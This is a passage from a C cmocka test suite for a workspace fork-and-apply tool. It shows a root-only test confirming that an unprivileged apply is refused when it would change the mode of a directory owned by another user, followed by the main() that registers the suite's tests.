 * failing on the last chmod after every rename. Only root can make a
 * directory another user owns: as an ordinary user this test is skipped,
 * and CI runs it as root.
 */
static void
test_foreign_dir_mode(void **state)
{
	struct t	 t;
	char		*rep, *before;
	int		 rc;

	(void)state;
	if (geteuid() != 0)
		skip();
	t_open(&t);
	sh("cd '%s' && echo plain > plain.txt && mkdir theirs && "
	    "chmod 755 theirs", t.ws);
	t_fork(&t);
	sh("cd '%s' && echo changed > plain.txt && chmod 700 theirs", t.view);
	sh("chown -R %d:%d '%s' && chown 0:0 '%s/theirs'", T_NOBODY,
	    T_NOBODY, t.root, t.ws);
	t_changes(&t);
	before = tree(t.ws);
	rc = t_apply_user(&t, &rep);
	t_unchanged(&t, rc, rep, "refused: theirs: its mode cannot be set: "
	    "the directory is not yours\n", before);
	t_close(&t);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_roundtrip),
		cmocka_unit_test(test_git_apply),
		cmocka_unit_test(test_patch),
		cmocka_unit_test(test_conflict),
		cmocka_unit_test(test_planted_link),
		cmocka_unit_test(test_setuid_stripped),
		cmocka_unit_test(test_umask_modes),
		cmocka_unit_test(test_kill),
		cmocka_unit_test(test_sensitive),
		cmocka_unit_test(test_color_escaped),
		cmocka_unit_test(test_stat),
		cmocka_unit_test(test_big),
		cmocka_unit_test(test_owner),
		cmocka_unit_test(test_fifo_refused),
		cmocka_unit_test(test_clean),
		cmocka_unit_test(test_newline_dir),
		cmocka_unit_test(test_interrupted_types),
		cmocka_unit_test(test_deleted_dir_held),
		cmocka_unit_test(test_readonly_dir),
		cmocka_unit_test(test_foreign_dir_mode),
	};

	umask(022);
	return cmocka_run_group_tests(tests, NULL, NULL);
}
